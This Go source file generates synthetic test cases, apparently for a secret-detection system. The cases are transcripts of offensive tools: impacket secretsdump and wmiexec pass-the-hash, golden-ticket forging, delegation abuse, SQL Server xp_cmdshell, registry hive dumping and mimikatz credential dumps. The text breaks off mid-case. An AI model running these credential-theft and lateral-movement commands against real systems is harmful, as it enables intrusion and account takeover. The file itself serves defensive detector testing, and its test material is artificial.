package cases

import (
	"fmt"
	"strings"
)

// secCases adds what a security engineer pastes into, or runs from, a
// coding agent during penetration tests, red-team work, incident response,
// forensics and audits: impacket (secretsdump with SAM, LSA secrets,
// $MACHINE.ACC, DPAPI_SYSTEM, NL$KM and cached domain logons, NTDS with
// history, PEK and cleartext output files; wmiexec, smbexec, mssqlclient,
// ticketer, addcomputer, changepasswd, dpapi.py); mimikatz (sekurlsa
// logonpasswords, ekeys, pth, cloudap; lsadump sam, secrets, cache, trust;
// kerberos::golden, vault, dpapi::chrome), pypykatz and lsassy; Rubeus and
// GetUserSPNs/GetNPUsers (Kerberoasting with RC4 and AES, wrapped and
// unwrapped, AS-REP roasting, asktgt, dump, tgtdeleg, s4u),
// targetedKerberoast, Certipy (req, auth, shadow) and PKINITtools;
// Responder (console, logs, Responder.db, NTLMv1), Inveigh, ntlmrelayx and
// mitm6, PCredz, hostapd-wpe and bettercap captures; hashcat and John the
// Ripper (potfiles, --show, status screens, JWT secrets, *2john hashes of
// KeePass, ZIP, Office and SSH keys), DPAT; hydra, medusa, ncrack,
// NetExec (smb, winrm, mssql, --sam, --lsa, --laps, --dpapi, lsassy and
// gpp_autologin modules), o365spray, MSOLSpray, WPScan; sqlmap dumps and
// --passwords, Burp Suite (Repeater, copy as curl, Intruder), ZAP, ffuf,
// HAR files, XSS cookie theft, SSRF to cloud metadata; trufflehog,
// gitleaks, nuclei, Nosey Parker, ggshield, semgrep and git-dumper
// findings that print the secret; Metasploit (creds, loot, hashdump, kiwi,
// login scanners, set SMBPass, resource scripts), Sliver and Cobalt
// Strike; BloodHound and ldapdomaindump descriptions, userPassword
// attributes, LAPS (pyLAPS, NetExec, bloodyAD), gMSADumper, GPP cpassword
// (Groups.xml, ScheduledTasks.xml, Get-GPPPassword), Unattend.xml and
// sysprep.inf, Snaffler finds, web.config on shares; Linux
// post-exploitation (shadow, shell and MySQL history, linPEAS, pspy,
// process environments, docker inspect, service account tokens, vault
// password files, git credentials) and Windows (winPEAS, Winlogon,
// PSReadLine history, SessionGopher, SharpDPAPI, WinSCP, FileZilla,
// mRemoteNG, VNC, IIS app pools, LaZagne); cloud assessments (ScoutSuite,
// Pacu, Prowler follow-ups, enumerate-iam, CloudFox, STS, GCP service
// account keys, MicroBurst, az CLI, ROADtools, AADInternals, TokenTactics,
// PRT cookies, MSAL token caches); Wi-Fi (aircrack-ng, hcxpcapngtool 22000
// lines, wifite, reaver, netsh, wpa_supplicant and NetworkManager files,
// Wi-Fi QR codes); packet captures (tshark HTTP Basic, FTP, SMTP AUTH,
// IMAP, SNMP, LDAP simple binds, telnet, form posts, Kerberos pre-auth);
// SIEM and EDR results (Splunk, Sentinel KQL, Elastic, Sysmon, 4688,
// PowerShell 4104, auditd, process trees, osquery); memory forensics
// (Volatility, strings); incident timelines and chat, malware configs,
// web shells, firmware (binwalk, grep), VPN profiles (Cisco .pcf, OpenVPN,
// FortiGate), CTF write-ups and pentest report drafts with evidence. The
// case names start with "sec/".
//
// Secrets: cleartext passwords, NT and LM hashes, DCC2, Kerberos keys and
// roastable hashes, NetNTLM responses, WPA handshakes and PMKIDs, crypt
// and database password hashes, DPAPI and LSA keys, tickets, tokens,
// cookies, API keys, private keys and reversibly encrypted passwords
// (cpassword, Unattend base64, WinSCP, mRemoteNG, VNC, Cisco
// enc_GroupPwd, FortiGate ENC). Benign: the well-known empty LM and NT
// hashes, hashcat's documented example hashes, Microsoft's published GPP
// key, user and host names, SIDs and RIDs, file hashes and IOCs, CVE ids,
// YARA and Sigma rules, scan output, certificate fingerprints, CTF flags,
// redacted and masked evidence and command lines that take their secrets
// from variables.
func (g *G) secCases() {
	g.stImpacket()
	g.stMimikatz()
	g.stKerberos()
	g.stCapture()
	g.stCracking()
	g.stBrute()
	g.stWeb()
	g.stScanners()
	g.stC2()
	g.stAD()
	g.stLinux()
	g.stWindows()
	g.stCloud()
	g.stWifi()
	g.stWire()
	g.stDetect()
	g.stIR()
	g.stBenign()
}

// ---- values used only here ----

func (g *G) stNT() string     { return g.hex(32) }
func (g *G) stSHA1() string   { return g.hex(40) }
func (g *G) stAES256() string { return g.hex(64) }
func (g *G) stAES128() string { return g.hex(32) }
func (g *G) stDES() string    { return g.hex(16) }
func (g *G) stSID() string {
	return fmt.Sprintf("S-1-5-21-%d-%d-%d", 100000000+g.r.IntN(4194967295), 100000000+g.r.IntN(4194967295), 100000000+g.r.IntN(4194967295))
}

// stPunct is a generated password like the ones impacket and PowerView
// tools set on machine accounts they create (letters, digits, punctuation).
func (g *G) stPunct() string {
	return g.s(alAlnum+"!#%&()*+,-.:;<=>?@[]^_{|}~", 15)
}

// stSeason is the seasonal password a spray finds.
func (g *G) stSeason() string {
	return g.pick("Spring", "Summer", "Autumn", "Fall", "Winter") + g.pick("2023", "2024", "2025", "2026") + g.pick("!", "!!", "#", "$", "@", "")
}

// stHuman is a password a person picked (word, digits, symbol).
func (g *G) stHuman() string {
	return g.pick(pwWords...) + g.pick("", strings.ToLower(g.pick(pwWords...))) + g.s(alDigit, 2+g.r.IntN(3)) + g.pick("!", "#", "@", "$", "*", ".", "?")
}

func (g *G) stLAPS() string { return g.s(alAlnum+"#%()+,-./:;<=>?@[]_{}", 14+g.r.IntN(7)) }

// stCpassword is a GPP cpassword: AES-256 with Microsoft's published key,
// base64 with the padding stripped.
func (g *G) stCpassword() string {
	return strings.TrimRight(g.b64(16*(1+g.r.IntN(3))), "=")
}

func (g *G) stUTF16(s string) []byte {
	b := make([]byte, 0, 2*len(s))
	for i := 0; i < len(s); i++ {
		b = append(b, s[i], 0)
	}
	return b
}

// stUnattend is the base64 of the UTF-16LE password and its element name,
// as Windows SIM writes a hidden password.
func (g *G) stUnattend(pw, elem string) string {
	return b64s(string(g.stUTF16(pw + elem)))
}

func (g *G) stUTF16Hex(s string) string {
	return strings.ToUpper(fmt.Sprintf("%x", g.stUTF16(s)))
}

func (g *G) stAV(id int, s string) string {
	return fmt.Sprintf("%02X00%02X00", id, 2*len(s)) + g.stUTF16Hex(s)
}

// stNetV2 is a NetNTLMv2 response line and its secret part (NTProofStr and
// blob); the server challenge is not secret.
func (g *G) stNetV2(user, dom, host, fqdn string, upper bool) (string, string) {
	blob := "0101000000000000" + g.s(alHexU, 16) + g.s(alHexU, 16) + "00000000" +
		g.stAV(2, dom) + g.stAV(1, host) + g.stAV(4, fqdn) + g.stAV(3, host+"."+fqdn) +
		"07000800" + g.s(alHexU, 16) + "060004000200000008003000300000000000000000000000" + g.s(alHexU, 64) +
		"0A001000" + g.s(alHexU, 32) + "00000000000000000000000000000000"
	core := g.s(alHexU, 32) + ":" + blob
	if !upper {
		core = strings.ToLower(core)
	}
	return user + "::" + dom + ":" + g.hex(16) + ":" + core, core
}

// stTGS23 is an RC4 Kerberoast hash; spn is what the tool prints between
// the realm and the closing star.
func (g *G) stTGS23(user, realm, spn string, upper bool) (string, string) {
	core := g.hex(32) + "$" + g.hex(2100+2*g.r.IntN(150))
	if upper {
		core = strings.ToUpper(core)
	}
	return "$krb5tgs$23$*" + user + "$" + realm + "$" + spn + "*$" + core, core
}

// stTGSAES is an AES Kerberoast hash (etype 17 or 18).
func (g *G) stTGSAES(etype, user, realm, spn string) (string, string) {
	core := g.hex(24) + "$" + g.hex(2000+2*g.r.IntN(150))
	return "$krb5tgs$" + etype + "$" + user + "$" + realm + "$*" + spn + "*$" + core, core
}

func (g *G) stASREP(user, realm string, withEtype, upper bool) (string, string) {
	core := g.hex(32) + "$" + g.hex(420+2*g.r.IntN(60))
	if upper {
		core = strings.ToUpper(core)
	}
	p := "$krb5asrep$"
	if withEtype {
		p += "23$"
	}
	return p + user + "@" + realm + ":" + core, core
}

// stKirbi is a base64 KRB-CRED as Rubeus prints it.
func (g *G) stKirbi() string {
	return "doIF" + g.s(alB64, 2) + "CCB" + g.s(alB64, 2) + "gAwIBBaEDAgEWooIE" + g.b64(1140+3*g.r.IntN(60))
}

func (g *G) stMAC12() string { return g.hex(12) }
func (g *G) stMAC() string {
	p := make([]string, 6)
	for i := range p {
		p[i] = g.s(alHexU, 2)
	}
	return strings.Join(p, ":")
}

// stWPA02 is a hashcat 22000 EAPOL line and its MIC; stWPA01 a PMKID line
// and its PMKID.
func (g *G) stWPA02(essid string) (string, string) {
	mic := g.hex(32)
	eapol := "0103007502010a0000000000000000000" + g.s("123", 1) + g.hex(64) + strings.Repeat("0", 64) + g.hex(32) + "0000000000000000" + "0016" + "30140100000fac040100000fac040100000fac028000"
	return "WPA*02*" + mic + "*" + g.stMAC12() + "*" + g.stMAC12() + "*" + fmt.Sprintf("%x", essid) + "*" + g.hex(64) + "*" + eapol + "*" + g.pick("00", "02", "80", "82"), mic
}
func (g *G) stWPA01(essid string) (string, string) {
	pmkid := g.hex(32)
	return "WPA*01*" + pmkid + "*" + g.stMAC12() + "*" + g.stMAC12() + "*" + fmt.Sprintf("%x", essid) + "***" + g.pick("01", "11"), pmkid
}

// stSpacedHex is n random bytes as upper hex pairs, perLine per line.
func (g *G) stSpacedHex(n, perLine int, indent string) string {
	var lines []string
	for n > 0 {
		k := min(perLine, n)
		p := make([]string, k)
		for i := range p {
			p[i] = g.s(alHexU, 2)
		}
		lines = append(lines, strings.Join(p, " "))
		n -= k
	}
	return strings.Join(lines, "\n"+indent)
}

func (g *G) stSHA512Crypt() string {
	return "$6$" + g.s(alAlnum+"./", 8+g.r.IntN(9)) + "$" + g.s(alAlnum+"./", 86)
}
func (g *G) stYescrypt() string {
	return "$y$j9T$" + g.s(alAlnum+"./", 22) + "$" + g.s(alAlnum+"./", 43)
}
func (g *G) stMD5Crypt() string { return "$1$" + g.s(alAlnum+"./", 8) + "$" + g.s(alAlnum+"./", 22) }
func (g *G) stDESCrypt() string { return g.s(alAlnum+"./", 13) }
func (g *G) stMSSQL() string    { return "0x0200" + g.s(alHexU, 136) }

// stAADJWT is an Entra ID (Azure AD) v1 access token shaped JWT.
func (g *G) stAADJWT(aud, tid, upn, appid, scp string) string {
	iat := 1714000000 + g.r.IntN(40000000)
	h := b64raw(fmt.Sprintf(`{"typ":"JWT","nonce":"%s","alg":"RS256","x5t":"%s","kid":"%s"}`, g.b64u(43), g.b64u(27), g.b64u(27)))
	p := b64raw(fmt.Sprintf(`{"aud":"%s","iss":"https://sts.windows.net/%s/","iat":%d,"nbf":%d,"exp":%d,"acr":"1","amr":["pwd","mfa"],"appid":"%s","appidacr":"0","idtyp":"user","ipaddr":"203.0.113.%d","name":"%s","oid":"%s","scp":"%s","tid":"%s","unique_name":"%s","upn":"%s","ver":"1.0"}`,
		aud, tid, iat, iat, iat+4800, appid, g.r.IntN(250), upn, g.uuid(), scp, tid, upn, upn))
	return h + "." + p + "." + g.b64u(342)
}

// stAzRT is an Entra ID refresh token (opaque, "0.A" or "1.A" prefixed).
func (g *G) stAzRT() string {
	return g.pick("0", "1") + ".A" + g.s(alAlnum, 3) + "A" + g.b64u(700+g.r.IntN(200))
}

func (g *G) stKeepass() (string, string) {
	core := g.hex(64) + "*" + g.hex(64) + "*" + g.hex(32) + "*" + g.hex(64) + "*" + g.hex(64)
	return "$keepass$*2*" + g.pick("60000", "100000", "6000") + "*0*" + core, core
}

// stBT writes backticks into a template written with ‵ (U+2035), so that
// Markdown and PowerShell fit in a raw string.
func stBT(s string) string { return strings.ReplaceAll(s, "‵", "`") }

func (g *G) stImpacket() {
	g.add("sec/secretsdump-remote-sam-lsa-full", `
$ impacket-secretsdump -hashes :«a» 'NORTHWIND/administrator@10.20.30.41'
Impacket v0.12.0 - Copyright Fortra, LLC and its affiliated companies 

[*] Service RemoteRegistry is in stopped state
[*] Starting service RemoteRegistry
[*] Target system bootKey: 0x«=bk»
[*] Dumping local SAM hashes (uid:rid:lmhash:nthash)
Administrator:500:aad3b435b51404eeaad3b435b51404ee:«a»:::
Guest:501:aad3b435b51404eeaad3b435b51404ee:31d6cfe0d16ae931b73c59d7e0c089c0:::
DefaultAccount:503:aad3b435b51404eeaad3b435b51404ee:31d6cfe0d16ae931b73c59d7e0c089c0:::
WDAGUtilityAccount:504:aad3b435b51404eeaad3b435b51404ee:«=wd»:::
[*] Dumping cached domain logon information (domain/username:hash)
NORTHWIND.LOCAL/m.kowalski:$DCC2$10240#m.kowalski#«=dcc»: (2025-02-11 08:12:40+00:00)
[*] Dumping LSA Secrets
[*] $MACHINE.ACC 
NORTHWIND\FIN-WS07$:aes256-cts-hmac-sha1-96:«=ma»
NORTHWIND\FIN-WS07$:aes128-cts-hmac-sha1-96:«=mb»
NORTHWIND\FIN-WS07$:des-cbc-md5:«=mc»
NORTHWIND\FIN-WS07$:aad3b435b51404eeaad3b435b51404ee:«=mn»:::
[*] DPAPI_SYSTEM 
dpapi_machinekey:0x«b»
dpapi_userkey:0x«=du»
[*] NL$KM 
NL$KM:«=nl»
[*] _SC_VeeamBackupSvc 
NORTHWIND\svc_veeam:«c»
[*] Cleaning up... 
[*] Stopping service RemoteRegistry
`, V{"a": g.stNT(), "=bk": g.hex(32), "=wd": g.stNT(), "=dcc": g.hex(32), "=ma": g.stAES256(), "=mb": g.stAES128(), "=mc": g.stDES(),
		"=mn": g.stNT(), "b": g.hex(40), "=du": g.hex(40), "=nl": g.hex(128), "c": g.stHuman()},
		"Guest:501:aad3b435b51404eeaad3b435b51404ee:31d6cfe0d16ae931b73c59d7e0c089c0:::", "[*] _SC_VeeamBackupSvc", "NORTHWIND\\svc_veeam:", "[*] Starting service RemoteRegistry")

	g.add("sec/secretsdump-machine-acc-plain-hex", `
[*] Dumping LSA Secrets
[*] $MACHINE.ACC 
MEGACORP\SQL02$:aes256-cts-hmac-sha1-96:«a»
MEGACORP\SQL02$:aes128-cts-hmac-sha1-96:«=b»
MEGACORP\SQL02$:des-cbc-md5:«=c»
MEGACORP\SQL02$:plain_password_hex:«d»
MEGACORP\SQL02$:aad3b435b51404eeaad3b435b51404ee:«e»:::
[*] DPAPI_SYSTEM 
dpapi_machinekey:0x«=f»
dpapi_userkey:0x«=h»
`, V{"a": g.stAES256(), "=b": g.stAES128(), "=c": g.stDES(), "d": g.hex(480), "e": g.stNT(), "=f": g.hex(40), "=h": g.hex(40)},
		"MEGACORP\\SQL02$:aes256-cts-hmac-sha1-96:", "[*] $MACHINE.ACC")

	g.add("sec/secretsdump-local-hives-cached", `
PS> reg save HKLM\SAM C:\Windows\Temp\s.save ; reg save HKLM\SYSTEM C:\Windows\Temp\y.save ; reg save HKLM\SECURITY C:\Windows\Temp\c.save
The operation completed successfully.
The operation completed successfully.
The operation completed successfully.

kali@kali:~/loot/ws112$ secretsdump.py -sam s.save -system y.save -security c.save LOCAL
Impacket v0.11.0 - Copyright 2023 Fortra

[*] Target system bootKey: 0x«=bk»
[*] Dumping local SAM hashes (uid:rid:lmhash:nthash)
Administrator:500:aad3b435b51404eeaad3b435b51404ee:31d6cfe0d16ae931b73c59d7e0c089c0:::
Guest:501:aad3b435b51404eeaad3b435b51404ee:31d6cfe0d16ae931b73c59d7e0c089c0:::
localsupport:1001:aad3b435b51404eeaad3b435b51404ee:«a»:::
[*] Dumping cached domain logon information (domain/username:hash)
CONTOSO.LOCAL/t.nguyen:$DCC2$10240#t.nguyen#«dcc»: (2025-06-02 07:58:11+00:00)
CONTOSO.LOCAL/helpdesk.admin:$DCC2$10240#helpdesk.admin#«dcc2»: (2025-05-28 16:20:03+00:00)
[*] Dumping LSA Secrets
[*] NL$KM 
 0000   «=h1»
 0010   «=h2»
NL$KM:«=nl»
[*] Cleaning up... 
`, V{"=bk": g.hex(32), "a": g.stNT(), "dcc": g.hex(32), "dcc2": g.hex(32), "=h1": g.stSpacedHex(16, 16, ""), "=h2": g.stSpacedHex(16, 16, ""), "=nl": g.hex(128)},
		"secretsdump.py -sam s.save -system y.save -security c.save LOCAL", "CONTOSO.LOCAL/t.nguyen:", "localsupport:1001:")

	g.add("sec/secretsdump-ntds-history-status", `
$ secretsdump.py -just-dc-ntlm -history -user-status -pwd-last-set 'fabrikam.local/da_backup@dc02.fabrikam.local' -k -no-pass
Impacket v0.12.0 - Copyright Fortra, LLC and its affiliated companies 

[*] Dumping Domain Credentials (domain\uid:rid:lmhash:nthash)
[*] Using the DRSUAPI method to get NTDS.DIT secrets
Administrator:500:aad3b435b51404eeaad3b435b51404ee:«=adm»::: (pwdLastSet=2024-09-30 14:02) (status=Enabled)
Guest:501:aad3b435b51404eeaad3b435b51404ee:31d6cfe0d16ae931b73c59d7e0c089c0::: (pwdLastSet=never) (status=Disabled)
krbtgt:502:aad3b435b51404eeaad3b435b51404ee:«a»::: (pwdLastSet=2021-03-17 10:44) (status=Disabled)
fabrikam.local\r.osei:1107:aad3b435b51404eeaad3b435b51404ee:«b»::: (pwdLastSet=2025-04-02 09:11) (status=Enabled)
fabrikam.local\r.osei_history0:1107:aad3b435b51404eeaad3b435b51404ee:«c»::: 
fabrikam.local\r.osei_history1:1107:aad3b435b51404eeaad3b435b51404ee:«=h1»::: 
DC02$:1000:aad3b435b51404eeaad3b435b51404ee:«=dc»::: (pwdLastSet=2025-06-01 03:12) (status=Enabled)
[*] Cleaning up... 
`, V{"=adm": g.stNT(), "a": g.stNT(), "b": g.stNT(), "c": g.stNT(), "=h1": g.stNT(), "=dc": g.stNT()},
		"(status=Disabled)", "-k -no-pass", "fabrikam.local\\r.osei_history0:1107:")

	g.add("sec/secretsdump-outputfile-cleartext", `
$ ls -la dc01_dump.*
-rw-r--r-- 1 kali kali 418213 Jun  3 10:14 dc01_dump.ntds
-rw-r--r-- 1 kali kali     96 Jun  3 10:14 dc01_dump.ntds.cleartext
-rw-r--r-- 1 kali kali 233908 Jun  3 10:14 dc01_dump.ntds.kerberos
$ cat dc01_dump.ntds.cleartext
megacorp.local\svc_legacyweb:CLEARTEXT:«a»
megacorp.local\scanner:CLEARTEXT:«b»
# reversible encryption is enabled on these two (userAccountControl ENCRYPTED_TEXT_PWD_ALLOWED) - add to findings
`, V{"a": g.stHuman(), "b": g.pwStrong()}, "dc01_dump.ntds.kerberos", "ENCRYPTED_TEXT_PWD_ALLOWED", "megacorp.local\\svc_legacyweb:CLEARTEXT:")

	g.add("sec/secretsdump-ntds-dit-offline-pek", `
┌──(kali㉿kali)-[~/engagements/acme-2025/ntds]
└─$ impacket-secretsdump -ntds Active\ Directory/ntds.dit -system registry/SYSTEM LOCAL -outputfile hashes
Impacket v0.12.0 - Copyright Fortra, LLC and its affiliated companies 

[*] Target system bootKey: 0x«=bk»
[*] Dumping Domain Credentials (domain\uid:rid:lmhash:nthash)
[*] Searching for pekList, be patient
[*] PEK # 0 found and decrypted: «a»
[*] Reading and decrypting hashes from Active Directory/ntds.dit 
Administrator:500:aad3b435b51404eeaad3b435b51404ee:«b»:::
Guest:501:aad3b435b51404eeaad3b435b51404ee:31d6cfe0d16ae931b73c59d7e0c089c0:::
DC01$:1000:aad3b435b51404eeaad3b435b51404ee:«=c»:::
krbtgt:502:aad3b435b51404eeaad3b435b51404ee:«=d»:::
`, V{"=bk": g.hex(32), "a": g.hex(32), "b": g.stNT(), "=c": g.stNT(), "=d": g.stNT()},
		"[*] Searching for pekList, be patient", "-outputfile hashes", "Guest:501:")

	g.add("sec/wmiexec-pass-the-hash-session", `
$ wmiexec.py -hashes aad3b435b51404eeaad3b435b51404ee:«a» -shell-type powershell 'contoso.local/it_admin@10.1.40.12'
Impacket v0.12.0 - Copyright Fortra, LLC and its affiliated companies 

[*] SMBv3.0 dialect used
[!] Launching semi-interactive shell - Careful what you execute
[!] Press help for extra shell commands
PS C:\> whoami /groups | findstr /i admins
CONTOSO\Domain Admins                        Group            S-1-5-21-1004336348-1177238915-682003330-512 Mandatory group, Enabled by default, Enabled group
PS C:\> hostname
FS01
`, V{"a": g.stNT()}, "-shell-type powershell", "contoso.local/it_admin@10.1.40.12", "CONTOSO\\Domain Admins")

	g.add("sec/smbexec-password-in-target", `
# lateral move to the backup server with the creds from the share
smbexec.py 'northwind.local/svc_deploy:«a»@10.20.30.55'
Impacket v0.12.0 - Copyright Fortra, LLC and its affiliated companies 

[!] Launching semi-interactive shell - Careful what you execute
C:\Windows\system32>whoami
nt authority\system
`, V{"a": g.pwURL()}, "nt authority\\system", "northwind.local/svc_deploy:")

	g.add("sec/ticketer-golden-aeskey", `
$ ticketer.py -aesKey «a» -domain-sid «_sid» -domain megacorp.local -user-id 500 -groups 512,513,518,519,520 Administrator
Impacket v0.12.0 - Copyright Fortra, LLC and its affiliated companies 

[*] Creating basic skeleton ticket and PAC Infos
[*] Customizing ticket for megacorp.local/Administrator
[*] 	PAC_LOGON_INFO
[*] 	PAC_CLIENT_INFO_TYPE
[*] 	EncTicketPart
[*] 	EncAsRepPart
[*] Signing/Encrypting final ticket
[*] 	PAC_SERVER_CHECKSUM
[*] 	PAC_PRIVSVR_CHECKSUM
[*] 	EncTicketPart
[*] 	EncASRepPart
[*] Saving ticket in Administrator.ccache
$ export KRB5CCNAME=Administrator.ccache
`, V{"a": g.stAES256(), "_sid": g.stSID()}, "[*] Saving ticket in Administrator.ccache", "export KRB5CCNAME=Administrator.ccache", "-groups 512,513,518,519,520")

	g.add("sec/addcomputer-rbcd-chain", `
$ addcomputer.py -computer-name 'PRNT07$' -computer-pass '«a»' -dc-ip 10.0.0.10 'contoso.local/l.fischer:«b»'
Impacket v0.12.0 - Copyright Fortra, LLC and its affiliated companies 

[*] Successfully added machine account PRNT07$ with password «a».
$ rbcd.py -delegate-from 'PRNT07$' -delegate-to 'SRV-APP01$' -action write 'contoso.local/l.fischer:«b»'
[*] Attribute msDS-AllowedToActOnBehalfOfOtherIdentity is empty
[*] Delegation rights modified successfully!
[*] PRNT07$ can now impersonate users on SRV-APP01$ via S4U2Proxy
`, V{"a": g.stPunct(), "b": g.stHuman()}, "msDS-AllowedToActOnBehalfOfOtherIdentity", "-delegate-to 'SRV-APP01$'")

	g.add("sec/mssqlclient-sa-xp-cmdshell", `
$ mssqlclient.py 'sa:«a»@10.20.30.60' 
Impacket v0.12.0 - Copyright Fortra, LLC and its affiliated companies 

[*] Encryption required, switching to TLS
[*] ENVCHANGE(DATABASE): Old Value: master, New Value: master
[*] ENVCHANGE(LANGUAGE): Old Value: , New Value: us_english
[*] ENVCHANGE(PACKETSIZE): Old Value: 4096, New Value: 16192
[*] INFO(SQL01\SQLEXPRESS): Line 1: Changed database context to 'master'.
[*] ACK: Result: 1 - Microsoft SQL Server (150 7208) 
[!] Press help for extra shell commands
SQL (sa  dbo@master)> enable_xp_cmdshell
SQL (sa  dbo@master)> xp_cmdshell whoami
output                        
---------------------------   
nt service\mssql$sqlexpress   
`, V{"a": g.pwURL()}, "SQL (sa  dbo@master)> enable_xp_cmdshell", "nt service\\mssql$sqlexpress")

	g.add("sec/dpapi-py-masterkey-credential", `
$ dpapi.py masterkey -file 'S-1-5-21-2215497123-3004417781-2140213367-1104/«_mk»' -sid S-1-5-21-2215497123-3004417781-2140213367-1104 -password '«a»'
Impacket v0.12.0 - Copyright Fortra, LLC and its affiliated companies 

[MASTERKEYFILE]
Version     :        2 (2)
Guid        : «_mk»
Flags       :        5 (5)
Policy      :        0 (0)
MasterKeyLen: 000000b0 (176)
BackupKeyLen: 00000090 (144)
CredHistLen : 00000014 (20)
DomainKeyLen: 00000174 (372)

Decrypted key with User Key (SHA1)
Decrypted key: 0x«b»

$ dpapi.py credential -file «_cf» -key 0x«b»
[CREDENTIAL]
LastWritten : 2025-03-18 09:40:12
Flags       : 0x00000030 (CRED_FLAGS_REQUIRE_CONFIRMATION|CRED_FLAGS_WILDCARD_MATCH)
Persist     : 0x00000003 (CRED_PERSIST_ENTERPRISE)
Type        : 0x00000002 (CRED_TYPE_DOMAIN_PASSWORD)
Target      : Domain:target=TERMSRV/jump01.megacorp.local
Description : 
Unknown     : 
Username    : MEGACORP\adm.jlee
Unknown     : «c»
`, V{"_mk": g.uuid(), "a": g.stHuman(), "b": g.hex(128), "_cf": strings.ToUpper(g.hex(32)), "c": g.pwStrong()},
		"Target      : Domain:target=TERMSRV/jump01.megacorp.local", "Username    : MEGACORP\\adm.jlee")

	g.add("sec/changepasswd-after-reset", `
# took over svc_print via GenericAll, reset its password; log it for cleanup
$ changepasswd.py 'northwind.local/svc_print@dc01.northwind.local' -newpass '«a»' -altuser 'northwind.local/k.brandt' -altpass '«b»' -reset
Impacket v0.12.0 - Copyright Fortra, LLC and its affiliated companies 

[*] Setting the password of northwind.local\svc_print as northwind.local\k.brandt
[*] Connecting to DCE/RPC as northwind.local\k.brandt
[*] Password was changed successfully.
[!] User no longer has valid AES keys for Kerberos, until they change their password again.
`, V{"a": g.stPunct(), "b": g.stHuman()}, "[*] Password was changed successfully.", "-altuser 'northwind.local/k.brandt'")
}

func (g *G) stMimikatz() {
	g.add("sec/mimikatz-logonpasswords-wdigest", stBT(`
  .#####.   mimikatz 2.2.0 (x64) #19041 Sep 19 2022 17:44:08
 .## ^ ##.  "A La Vie, A L'Amour" - (oe.eo)
 ## / \ ##  /*** Benjamin DELPY ‵gentilkiwi‵ ( benjamin@gentilkiwi.com )
 ## \ / ##       > https://blog.gentilkiwi.com/mimikatz
 '## v ##'       Vincent LE TOUX             ( vincent.letoux@gmail.com )
  '#####'        > https://pingcastle.com / https://mysmartlogon.com ***/

mimikatz # privilege::debug
Privilege '20' OK

mimikatz # sekurlsa::logonpasswords

Authentication Id : 0 ; 4471082 (00000000:00443a2a)
Session           : RemoteInteractive from 2
User Name         : a.moreau
Domain            : FABRIKAM
Logon Server      : DC02
Logon Time        : 6/11/2025 8:14:52 AM
SID               : «_sid»
	msv :	
	 [00000003] Primary
	 * Username : a.moreau
	 * Domain   : FABRIKAM
	 * NTLM     : «a»
	 * SHA1     : «=s»
	 * DPAPI    : «=d»
	tspkg :	
	wdigest :	
	 * Username : a.moreau
	 * Domain   : FABRIKAM
	 * Password : «b»
	kerberos :	
	 * Username : a.moreau
	 * Domain   : FABRIKAM.LOCAL
	 * Password : (null)
	ssp :	
	credman :	
	cloudap :	
`), V{"_sid": g.stSID() + "-1143", "a": g.stNT(), "=s": g.stSHA1(), "=d": g.hex(32), "b": g.stHuman()},
		"Session           : RemoteInteractive from 2", "mimikatz # sekurlsa::logonpasswords", "Logon Server      : DC02")

	g.add("sec/mimikatz-sekurlsa-ekeys", `
mimikatz # sekurlsa::ekeys

Authentication Id : 0 ; 996 (00000000:000003e4)
Session           : Service from 0
User Name         : SRV-APP01$
Domain            : CONTOSO
Logon Server      : (null)
Logon Time        : 6/2/2025 3:01:10 AM
SID               : S-1-5-20

	 * Username : srv-app01$
	 * Domain   : CONTOSO.LOCAL
	 * Password : (null)
	 * Key List :
	   aes256_hmac       «=m1»
	   rc4_hmac_nt       «=m2»

Authentication Id : 0 ; 2219810 (00000000:0021df22)
Session           : Interactive from 1
User Name         : sql.admin
Domain            : CONTOSO
Logon Server      : DC01
Logon Time        : 6/2/2025 9:40:33 AM
SID               : «_sid»

	 * Username : sql.admin
	 * Domain   : CONTOSO.LOCAL
	 * Password : (null)
	 * Key List :
	   aes256_hmac       «a»
	   aes128_hmac       «=a2»
	   rc4_hmac_nt       «b»
	   rc4_hmac_old      «b»
	   rc4_md4           «b»
	   rc4_hmac_nt_exp   «b»
	   rc4_hmac_old_exp  «b»
`, V{"=m1": g.stAES256(), "=m2": g.stNT(), "_sid": g.stSID() + "-1211", "a": g.stAES256(), "=a2": g.stAES128(), "b": g.stNT()},
		"mimikatz # sekurlsa::ekeys", "User Name         : sql.admin", "SID               : S-1-5-20")

	g.add("sec/mimikatz-lsadump-sam", `
mimikatz # token::elevate
Token Id  : 0
User name : 
SID name  : NT AUTHORITY\SYSTEM

640	{0;000003e7} 1 D 40172     	NT AUTHORITY\SYSTEM	S-1-5-18	(04g,21p)	Primary
 -> Impersonated !

mimikatz # lsadump::sam
Domain : HR-LT-0231
SysKey : «=sk»
Local SID : S-1-5-21-3871092837-1250339163-2409317205

SAMKey : «=samk»

RID  : 000001f4 (500)
User : Administrator

RID  : 000001f5 (501)
User : Guest

RID  : 000003e9 (1001)
User : itlocal
  Hash NTLM: «a»
    lm  - 0: «=l0»
    ntlm- 0: «a»
    ntlm- 1: «b»

Supplemental Credentials:
* Primary:NTLM-Strong-NTOWF *
    Random Value : «=rv»
`, V{"=sk": g.hex(32), "=samk": g.hex(32), "a": g.stNT(), "=l0": g.hex(32), "b": g.stNT(), "=rv": g.hex(32)},
		"Domain : HR-LT-0231", "User : itlocal", "NT AUTHORITY\\SYSTEM")

	g.add("sec/mimikatz-lsadump-secrets", `
mimikatz # lsadump::secrets
Domain : KIOSK-LOBBY-2
SysKey : «=sk»

Local name : KIOSK-LOBBY-2 ( S-1-5-21-1220945662-1202665555-839525555 )
Domain name : NORTHWIND ( S-1-5-21-2902124851-2102663117-1457632118 )
Domain FQDN : northwind.local

Policy subsystem is : 1.18
LSA Key(s) : 1, default {«_g»}
  [00] {«_g»} «=lk»

Secret  : $MACHINE.ACC
cur/hex : «=mh»

Secret  : DefaultPassword
cur/text: «a»

Secret  : _SC_PrintSpoolerHelper / service 'PrintSpoolerHelper' with username : NORTHWIND\svc_printhelp
cur/text: «b»
old/text: «c»
`, V{"=sk": g.hex(32), "_g": g.uuid(), "=lk": g.hex(64), "=mh": g.stSpacedHex(40, 40, ""), "a": g.stHuman(), "b": g.pwStrong(), "c": g.pwStrong()},
		"Secret  : DefaultPassword", "with username : NORTHWIND\\svc_printhelp", "Domain FQDN : northwind.local")

	g.add("sec/mimikatz-lsadump-cache", `
mimikatz # lsadump::cache
Domain : FIN-LT-044
SysKey : «=sk»

Local name : FIN-LT-044 ( S-1-5-21-1742183904-2910003418-3320917720 )
Domain name : MEGACORP ( S-1-5-21-934781123-2219806741-1733381024 )
Domain FQDN : megacorp.local

